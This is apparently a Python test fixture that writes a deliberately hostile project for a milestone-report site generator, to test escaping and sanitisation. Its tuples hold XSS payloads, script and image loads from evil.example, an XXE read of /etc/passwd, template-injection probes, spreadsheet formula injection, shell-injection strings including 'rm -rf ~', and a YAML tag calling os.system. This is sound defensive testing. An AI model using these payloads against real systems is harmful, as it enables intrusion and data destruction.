"""A project in which every text tries to be something other than text.

The vectors are dealt out to ten milestones. A field of one line holds all vectors of its
milestone, each field beginning with another one; a list holds them one by one. They are written
raw into the texts of half of the milestones, and as escapes of YAML into those of the others.
"""

import unicodedata
from collections.abc import Iterator
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from tests.written import write

RUN = "document.title='PW'+'NED'"
AWAY = "https://evil.example"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={AWAY}/x.js></script>",
    "<script src=//evil.example/x.js async></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" alt="picture">',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<a href="javascript:{RUN}">x</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
)
ESCAPES = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"`-{RUN}-`",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</text></svg><script>{RUN}</script>",
    f"</td></tr></table><script>{RUN}</script>",
    "<!--",
    f"<![CDATA[<script>{RUN}</script>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "&lt;b&gt; &amp;amp; &#60;i&#62;",
    "\\u003cscript\\u003e %3Cscript%3E",
)
REQUESTS = (
    f"<img src={AWAY}/x.png>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    f'<meta http-equiv="refresh" content="0;url={AWAY}/">',
    f"<base href={AWAY}/>",
    f'<object data="{AWAY}/x.swf"></object><embed src="{AWAY}/x">',
    f"<style>@import url({AWAY}/x.css); * {{ background: url({AWAY}/x.png) }}</style>",
    f'<p style="background:url({AWAY}/x.png)">',
    f'"; }} * {{ background: url({AWAY}/x.png) }} @page {{ content: "',
    f'<svg><use href="{AWAY}/x.svg#a"/><image href="{AWAY}/x.png"/></svg>',
    f"<svg><style>@import '{AWAY}/x.css'</style><foreignObject><b>x</b></foreignObject></svg>",
    f"![picture]({AWAY}/x.png)",
    f"[link](javascript:{RUN})",
    f"[link](JaVaScRiPt&colon;{RUN})",
    "[link](data:text/html;base64,PHNjcmlwdD4=)",
    f"<javascript:{RUN}>",
    "../../../../etc/passwd file:///etc/passwd",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{% include 'base.html' %}{# gone #}",
    "{{ view.frame.__class__.__mro__ }} {{ cycler.__init__.__globals__ }}",
    "{n} {0} {title.__class__} {} {{",
    "${7*7} #{7*7} <%= 7*7 %> %s %(n)d",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    f'=HYPERLINK("{AWAY}/","x")',
    "=cmd|'/C calc'!A0",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
)
WORDS = (
    "W" * 300,
    "שלום עולם، مرحبا بالعالم",
    "里程碑计划 マイルストーン 마일스톤",
    "\N{DIRECT HIT} \N{WOMAN}\N{ZERO WIDTH JOINER}\N{PERSONAL COMPUTER}",
    "e\N{COMBINING ACUTE ACCENT}\N{COMBINING TILDE}\N{COMBINING GRAVE ACCENT} ﷺ İıſß ﬁ",
    "\"quoted\" 'single' `ticks` & <less> \\back\\",
    "soft\N{SOFT HYPHEN}hyphen zero\N{ZERO WIDTH SPACE}width no\N{NO-BREAK SPACE}break",
    "$(touch x) `id` ; rm -rf ~ | ' OR 1=1 --",
)
UNSEEN = (  # what no page may show: each of these is replaced
    "bell\x07 null\x00 escape\x1b[31m delete\x7f",
    "next\x85line\N{LINE SEPARATOR}paragraph\N{PARAGRAPH SEPARATOR}",
    "user\N{RIGHT-TO-LEFT OVERRIDE}nimda\N{POP DIRECTIONAL FORMATTING}",
    "\N{LEFT-TO-RIGHT ISOLATE}fine\N{RIGHT-TO-LEFT ISOLATE}<script>\N{POP DIRECTIONAL ISOLATE}",
    "mark\N{ZERO WIDTH NO-BREAK SPACE}inside\ufffe",
)

SEEN = (*SCRIPTS, *ESCAPES, *REQUESTS, *TEMPLATES, *FORMULAS, *WORDS)
MILESTONES = 10
TITLE = " ".join(SEEN[2::MILESTONES])
FOOTER = " ".join(SEEN[3::MILESTONES])
LINKS = (
    f'{AWAY}/"><script>{RUN}</script>',
    f"{AWAY}/'onmouseover='{RUN}",
    f"{AWAY}/?q={{{{7*7}}}}&amp;x=<b>#`^|\\",
    "mailto:a@example.org?subject=%3Cb%3E{{7*7}}",
)

REFUSED = {  # files of which a report must not hold a word
    "tag.md": "---\ntitle: !!python/object/apply:os.system [touch x]\ndue: 2024-05-01\n---\n",
    "alias.md": "---\ntitle: &a [a]\npurpose: *a\ndue: 2024-05-01\n---\n",
    "script.md": (
        f'---\ntitle: x\ndue: 2024-05-01\nlinks: [{{title: x, url: "javascript:{RUN}"}}]\n---\n'
    ),
    "page.md": (
        "---\ntitle: x\ndue: 2024-05-01\nlinks: [{title: x, url: 'data:text/html,x'}]\n---\n"
    ),
    "wide.md": "---\ntitle: x\ndue: 2024-05-01\n---\n".encode("utf-16"),
    "{{ 7+7 }} & 'quoted' %s.md": "---\ntitle: [\n---\n",
}


def write_project(root: Path) -> None:
    """Write the project, its settings among it."""
    files: dict[str, str | bytes] = {
        "milepost.toml": _settings(),
        "content/project.yml": _yaml(project()),
    }
    for number in range(MILESTONES):
        name, text = _file(number)
        files[f"content/{name}"] = text
    write(root, files | {f"content/{name}": text for name, text in REFUSED.items()})


def vectors(number: int) -> list[str]:
    """Return what one milestone is made of."""
    return [*SEEN[number::MILESTONES], UNSEEN[number % len(UNSEEN)]]


def shown(text: str) -> str:
    """Return what a reader is to see of a text of one line."""
    for character in "\x07\x00\x1b\x7f\x85\u2028\u2029\u202e\u202c\u2066\u2067\u2069\ufeff\ufffe":
        text = text.replace(character, "\N{REPLACEMENT CHARACTER}")
    return " ".join(unicodedata.normalize("NFC", text).split())


def milestone(number: int) -> dict[str, Any]:
    """Return the fields of a milestone, a vector in every text."""
    each = vectors(number)
    lines = _lines(each)
    fields: dict[str, Any] = {
        "id": f"m{number:02}",
        **{name: next(lines) for name in ("title", "purpose", "objective", "phase", "owner")},
        "status": ("in progress", "not started", "blocked", "completed")[number % 4],
        "start": "2024-01-08",
        "due": f"2024-{number % 6 + 2:02}-15",
        "baseline": f"2024-{number % 6 + 1:02}-15",
        "shares": {next(lines): 0.5},
        "contributors": each,
        "consulted": each,
        "informed": each,
        "stakeholders": each,
        "tags": each,
        "health": "red",
        "health_reason": next(lines),
        "risks": [_risk(i, vector, next(lines)) for i, vector in enumerate(each)],
        "changes": [
            {
                "date": "2024-03-01",
                "what": vector,
                "from": next(lines),
                "to": next(lines),
                "reason": vector,
                "approved_by": next(lines),
            }
            for vector in each
        ],
        "decisions": [
            {"raised": "2024-03-01", "what": vector, "by": next(lines)} for vector in each
        ],
        "asks": [{"ask": vector, "from": next(lines), "by": "2024-05-01"} for vector in each],
        "waivers": [{"criterion": next(lines), "reason": next(lines), "by": next(lines)}],
        "ignore": [{"code": next(lines), "reason": next(lines)}],
        "links": [{"title": next(lines), "url": url} for url in LINKS],
        **{f"x-{vector}": vector for vector in each if vector not in UNSEEN},
    }
    if number == 0:
        fields["cancelled"] = {"date": "2024-03-01", "reason": next(lines)}
    return fields


def texts(number: int) -> dict[str, Any]:
    """Return what is in the front matter of a file without a body."""
    each = vectors(number)
    return {
        "tasks": [{"title": vector, "owner": vector} for vector in each],
        "success_criteria": [{"text": vector} for vector in each],
        "body": _body(number),
    }


def _risk(number: int, title: str, owner: str) -> dict[str, Any]:
    return {
        "id": f"r{number}",
        "title": title,
        "owner": owner,
        "probability": 0.5,
        "impact": 1000,
        "identified": "2024-02-01",
        "due": "2024-05-01",
        "response": "reduce",
    }


def project() -> dict[str, Any]:
    """Return the fields of the project, a vector in every text."""
    every = vectors(1)
    lines = _lines(every)
    return {
        "id": "hostile",
        "title": next(lines),
        "purpose": next(lines),
        "currency": "GBP",
        "objectives": [
            {"id": f"o{i}", "title": vector, "target": next(lines)}
            for i, vector in enumerate(every)
        ],
        "phases": [
            *({"id": f"p{i}", "title": vector} for i, vector in enumerate(every)),
            f"Plainly {every[0]}",
        ],
        "roles": [
            {"role": vector, "responsibilities": next(lines), "people": every} for vector in every
        ],
        "teams": [{"id": f"t{i}", "name": vector} for i, vector in enumerate(every)],
        "people": [
            {"id": f"n{i}", "name": vector, "team": f"t{i}"} for i, vector in enumerate(every)
        ],
        "calendar": {"country": next(lines)},
        "glossary": {vector: vector for vector in every if vector not in UNSEEN},
    }


def _settings() -> str:
    return (
        f"format = 1\n\n[site]\ntitle = {_quoted(TITLE)}\nfooter = {_quoted(FOOTER)}\n"
        '\n[build]\nas_of = "2024-04-18"\n'
    )


def _file(number: int) -> tuple[str, str]:
    """Return the name and text of a milestone's file: Markdown, or YAML throughout."""
    fields = milestone(number)
    if number % 2:
        text = f"---\n{_yaml(fields, raw=True)}---\n{_body(number)}{_lists(number)}"
        return f"milestones/{fields['id']}.md", text
    return f"milestones/{fields['id']}.yml", _yaml(fields | texts(number))


def _body(number: int) -> str:
    """Return Markdown that holds each vector as paragraph, heading, item, quote, cell and code."""
    each = vectors(number)
    ways = ("{}", "- {}", "> {}", "| {} | b |\n|---|---|\n| {} | b |", "`{}`", "**{}**", "[{}](#x)")
    parts = [" ".join(each), *(way.replace("{}", vector) for vector in each for way in ways)]
    for vector in each:
        parts += [f"## {vector}", f"### {vector}", f"```{vector}\n{vector}\n```"]
    return "\n\n".join(parts) + "\n\n"


def _lists(number: int) -> str:
    each = vectors(number)
    ticks = "".join(f"- [ ] {vector}\n" for vector in each)
    updates = "".join(
        f"### 2024-03-{day:02}\n{vector}\n" for day, vector in enumerate(each, start=1)
    )
    lessons = "".join(f"- {vector}\n" for vector in each)
    return (
        f"## Key tasks\n{ticks}- [ ] x (@<b>&'\"{{{{7*7}}}}</b>, 2d)\n## Success criteria\n{ticks}"
        f"## Updates\n{updates}## Lessons\n{lessons}"
    )


def _lines(each: list[str]) -> Iterator[str]:
    """Yield all vectors in one line, for ever, each time beginning with another of them."""
    while True:
        for i in range(len(each)):
            yield " ".join((*each[i:], *each[:i]))


def _yaml(fields: Mapping[str, Any], *, raw: bool = False) -> str:
    """Write fields as YAML, one a line; what cannot be printed is escaped unless it stays raw."""
    return "".join(f"{_quoted(name)}: {_flow(value, raw=raw)}\n" for name, value in fields.items())


def _flow(value: Any, *, raw: bool) -> str:
    if isinstance(value, dict):
        inner = ", ".join(f"{_quoted(k)}: {_flow(v, raw=raw)}" for k, v in value.items())
        return f"{{{inner}}}"
    if isinstance(value, list):
        return f"[{', '.join(_flow(item, raw=raw) for item in value)}]"
    return (
        _quoted(value, raw=raw)
        if isinstance(value, str) and not value.startswith("2024-")
        else str(value)
    )


def _quoted(text: str, *, raw: bool = False) -> str:
    """Write a text in quotes, as YAML and TOML both read it."""
    text = text.replace("\\", "\\\\").replace('"', '\\"')
    if not raw:
        text = "".join(c if c.isprintable() else _escaped(c) for c in text)
    return f'"{text}"'


def _escaped(character: str) -> str:
    code = ord(character)
    return f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"
